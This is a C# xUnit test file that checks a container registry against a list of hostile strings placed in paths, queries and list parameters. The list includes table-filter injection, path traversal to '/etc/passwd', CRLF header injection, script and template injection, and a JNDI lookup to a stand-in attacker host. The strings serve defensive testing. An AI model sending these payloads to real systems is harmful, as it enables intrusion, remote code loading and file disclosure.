using System.Net;
using Serverless.Registry.Oci;
using Xunit;

namespace Serverless.Web.Tests.Hostile;

/// <summary>
/// Texts that mean something to a table's filter, a path, a header or a log, in every place where a request may carry a text: none is more than a text,
/// and what cannot be one is refused.
/// </summary>
public abstract class OddTextTests(IStorageKind storage) : RegistryTest(storage)
{
    private const string Zeros = "sha256:0000000000000000000000000000000000000000000000000000000000000000";

    public static TheoryData<string> Texts =>
    [
        "'",
        "''",
        "' or PartitionKey ne '",
        "x' or true or 'x' eq 'x",
        "datetime'2026-01-01'",
        "\"",
        "$filter=true",
        "../../etc/passwd",
        "..",
        "..\\..\\",
        "a\\b",
        "a#b",
        "a?b",
        "%",
        "%2e%2e%2f",
        "a\r\nSet-Cookie: x=y",
        "a\nb",
        "a\tb",
        "\u007f",
        "\u0085",
        "a\u00a0b",
        "ä",
        "а",
        "ａ",
        "١",
        "\u202egnp",
        "\u200b",
        "\ufeffa",
        "𝒂",
        "e\u0301",
        "<script>alert(1)</script>",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "|t:v1",
        "t:v1",
        "*",
        "~",
        "a:b",
        "sha256:",
        "sha256:ZZ",
        "SHA256:0000000000000000000000000000000000000000000000000000000000000000",
        "sha256-0000000000000000000000000000000000000000000000000000000000000000/",
        "sha256:０000000000000000000000000000000000000000000000000000000000000000",
        "sha256:000000000000000000000000000000000000000000000000000000000000000",
        "sha256:00000000000000000000000000000000000000000000000000000000000000000",
        " sha256:0000000000000000000000000000000000000000000000000000000000000000",
        "sha256:0000000000000000000000000000000000000000000000000000000000000000\n",
        "sha512:0000000000000000000000000000000000000000000000000000000000000000",
        "sha256+b64:0000000000000000000000000000000000000000000000000000000000000000",
    ];

    [Theory]
    [MemberData(nameof(Texts))]
    public async Task In_a_path_it_is_400_or_404_and_nothing_is_written(string text)
    {
        var odd = Uri.EscapeDataString(text);
        await FillAsync();
        var before = await SnapshotAsync();
        foreach (var (method, path) in (IEnumerable<(string, string)>)
        [
            ("GET", $"/v2/{odd}/manifests/v1"), ("GET", $"/v2/app/{odd}/manifests/v1"), ("GET", $"/v2/{odd}/tags/list"), ("POST", $"/v2/{odd}/blobs/uploads/"),
            ("GET", $"/v2/app/manifests/{odd}"), ("PUT", $"/v2/app/manifests/{odd}"), ("DELETE", $"/v2/app/manifests/{odd}"),
            ("GET", $"/v2/app/blobs/{odd}"), ("DELETE", $"/v2/app/blobs/{odd}"), ("GET", $"/v2/app/referrers/{odd}"),
            ("GET", $"/v2/app/blobs/uploads/{odd}"), ("PATCH", $"/v2/app/blobs/uploads/{odd}?_state={odd}"), ("PUT", $"/v2/app/blobs/uploads/{odd}?digest={Zeros}"),
            ("POST", $"/v2/app/blobs/uploads/?digest={odd}"),
            ("PUT", $"/v2/app/manifests/v2?tag={odd}"), ("POST", $"/v2/app/blobs/uploads/?digest-algorithm={odd}"),
        ])
        {
            await AssertAsync(method, path, s => s is 400 or 404);
        }

        // What cannot be mounted is uploaded.
        foreach (var mount in (string[])[$"mount={odd}&from=app", $"mount={Zeros}&from={odd}"]) await AssertAsync("POST", $"/v2/app/blobs/uploads/?{mount}", s => s is 202);
        Assert.Equal(before, await SnapshotAsync());
    }

    [Theory]
    [MemberData(nameof(Texts))]
    public async Task In_a_list_it_is_a_text_or_refused(string text)
    {
        var odd = Uri.EscapeDataString(text);
        await FillAsync();
        foreach (var path in (string[])["/v2/_catalog", "/v2/app/tags/list", $"/v2/app/referrers/{Zeros}"])
        {
            await AssertAsync("GET", $"{path}?last={odd}", s => s is 200 or 400);
            await AssertAsync("GET", $"{path}?n={odd}", s => s is 400);
            await AssertAsync("GET", $"{path}?n=1&last={odd}&artifactType={odd}&{odd}={odd}", s => s is 200 or 400);
        }

        using var filtered = await ExpectAsync(Registry.SendAsync("GET", $"/v2/app/referrers/{Zeros}?artifactType={odd}"), HttpStatusCode.OK);
        Assert.Contains("\"manifests\":[]", await filtered.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    private async Task FillAsync()
    {
        var index = ManifestBuilder.ForIndex();
        index.Subject = new Descriptor(MediaTypes.OciManifest, Digest.Parse(Zeros), 1);
        await ExpectAsync(Registry.PutManifestAsync("app", "v1", index.Build()), HttpStatusCode.Created);
    }

    private async Task AssertAsync(string method, string path, Func<int, bool> expected)
    {
        var body = method is "PUT" or "PATCH" ? """{"schemaVersion":2,"manifests":[]}"""u8.ToArray() : null;
        using var answer = await Registry.SendAsync(method, path, body, body is null ? null : MediaTypes.OciIndex);
        Assert.True(expected((int)answer.StatusCode), $"{method} {path} was answered {answer.StatusCode}: {await answer.Content.ReadAsStringAsync()}");
        Assert.Equal("", Header(answer, "Set-Cookie"));
    }
}

public sealed class OddTextTestsInMemory(InMemoryStorage storage) : OddTextTests(storage), IClassFixture<InMemoryStorage>;

[Collection(AzuriteCollection.Name)]
public sealed class OddTextTestsOnAzurite(AzuriteStorage storage) : OddTextTests(storage);
